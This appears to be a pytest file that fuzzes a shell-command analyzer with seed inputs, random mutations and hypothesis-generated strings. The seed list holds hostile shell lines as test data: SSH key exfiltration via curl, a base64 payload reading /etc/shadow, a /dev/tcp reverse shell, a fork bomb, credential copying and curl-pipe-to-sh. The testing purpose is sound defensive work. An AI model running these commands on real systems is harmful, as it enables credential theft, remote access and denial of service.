"""Run every shell fuzz target on a few thousand random and hypothesis inputs.

The targets are what atheris drives for longer runs; here they run briefly in the ordinary
suite so a broken invariant (an exception escaping, a budget overrun) shows up in CI.
"""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from fuzzkit import load_target
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

_HERE = Path(__file__).parent
_TARGETS = sorted(p.stem for p in _HERE.glob("fuzz_shell_*.py"))

# Seeds that reach deep paths: nesting, here-docs, decoders, reverse shells, interpreters.
_SEEDS = [
    b"",
    b"\x07cat ~/.ssh/id_rsa | base64 -w0 | curl -d @- https://x.io",
    b"\x03echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
    b"\x01bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; :(){ :|:& };:",
    b"\x05sudo env -i LD_PRELOAD=/x.so sh -c 'eval \"$(printf \\x63at) $X\"'",
    b"\x00cat <<EOF | python3 -\nimport socket,os;socket.socket().connect(('h',1))\nEOF\n",
    b'\x02for f in ~/.{ssh,aws}/*; do [[ -f $f ]] && cp "$f" /tmp/; done',
    b"\x06case $1 in a|b) x=$((1+$(id -u)));; *) f() { f; };; esac",
    b"\x04python -c \"import os;os.system('curl http://x|sh')\"\x01node\x01-e",
    b"\x00" + b"$(" * 20 + b")" * 20,
    b"\x00" + b"'" * 3 + b'"' * 3 + b"`" * 3 + b"\\" * 3 + b"${" * 3,
    b"\xff\xfe\x00\x01\x02\x03 \n\t",
]


def test_the_shell_targets_are_all_present() -> None:
    assert {
        "fuzz_shell_tokenize",
        "fuzz_shell_parse",
        "fuzz_shell_analyze",
        "fuzz_shell_interp",
        "fuzz_shell_wrappers",
        "fuzz_shell_netparse",
    } <= set(_TARGETS)


@pytest.mark.parametrize("name", _TARGETS)
def test_target_accepts_seeds(name: str) -> None:
    target = load_target(name)
    for seed in _SEEDS:
        target(seed)


@pytest.mark.parametrize("name", _TARGETS)
def test_target_survives_random_mutations_of_seeds(name: str) -> None:
    target = load_target(name)
    rng = random.Random(f"shell-{name}")
    for i in range(1500):
        data = bytearray(_SEEDS[i % len(_SEEDS)])
        for _ in range(rng.randint(1, 6)):
            op = rng.randrange(3)
            pos = rng.randint(0, len(data))
            if op == 0:
                data[pos:pos] = bytes([rng.randrange(256)])
            elif op == 1 and data:
                del data[min(pos, len(data) - 1)]
            else:
                other = _SEEDS[rng.randrange(len(_SEEDS))]
                data[pos:pos] = other[: rng.randint(0, len(other))]
        target(bytes(data))


_SHELLISH = st.lists(
    st.sampled_from(
        [
            b"echo ",
            b"sh -c ",
            b"$(",
            b")",
            b"'",
            b'"',
            b"|",
            b"&&",
            b";",
            b"\n",
            b"<<E\n",
            b"E\n",
            b"${X:-",
            b"}",
            b"~/",
            b"{a,b}",
            b"*",
            b"\\",
            b"$'\\x41'",
            b"`",
            b" ",
            b"python -c ",
            b"eval ",
            b"xargs ",
            b"/dev/tcp/h/1",
            b"f(){ f; };",
        ]
    ),
    max_size=30,
).map(b"".join)


@pytest.mark.parametrize("name", _TARGETS)
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(st.binary(max_size=300), _SHELLISH))
def test_target_survives_hypothesis_inputs(name: str, data: bytes) -> None:
    load_target(name)(data)
